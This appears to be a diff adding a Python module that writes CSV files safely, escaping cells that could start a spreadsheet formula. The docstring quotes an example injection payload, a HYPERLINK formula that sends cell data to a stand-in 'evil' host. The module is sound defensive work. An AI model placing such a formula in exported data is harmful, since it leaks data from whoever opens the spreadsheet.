@@ -1,0 +1,43 @@
+"""CSV exports that spreadsheets cannot execute: every cell that could start a formula is escaped.
+
+Excel, LibreOffice and Google Sheets evaluate a cell that starts with `=`, `+`, `-` or `@`
+(and some also after a leading tab or carriage return), so a product title like
+`=HYPERLINK("http://evil/?"&A1)` written as-is would run when an operator opens the file.
+OWASP's remedy: prefix such a cell with a single quote, which the spreadsheet shows as text.
+"""
+
+from __future__ import annotations
+
+import csv
+import io
+import os
+from collections.abc import Iterable, Sequence
+from pathlib import Path
+
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+
+
+def escape_cell(value: object) -> str:
+    """The cell's text, with a leading `'` when it would start a formula; None is empty."""
+    text = "" if value is None else str(value)
+    return "'" + text if text.startswith(FORMULA_STARTS) else text
+
+
+def to_csv(rows: Iterable[dict], columns: Sequence[str]) -> str:
+    """Rows as CSV text: a header, every cell escaped and quoted (quoted newlines survive)."""
+    buffer = io.StringIO(newline="")
+    writer = csv.writer(buffer, quoting=csv.QUOTE_ALL, lineterminator="\r\n")
+    writer.writerow([escape_cell(c) for c in columns])
+    for row in rows:
+        writer.writerow([escape_cell(row.get(c)) for c in columns])
+    return buffer.getvalue()
+
+
+def write_csv(path: Path, rows: Iterable[dict], columns: Sequence[str]) -> Path:
+    """Write rows as UTF-8 CSV with a BOM (Excel then reads non-ASCII text right); temporary
+    name first, then a rename, so a reader never opens half a file."""
+    path = Path(path)
+    tmp = path.with_name(f".{path.name}.tmp-{os.getpid()}")
+    tmp.write_bytes(b"\xef\xbb\xbf" + to_csv(rows, columns).encode("utf-8"))
+    os.replace(tmp, path)
+    return path
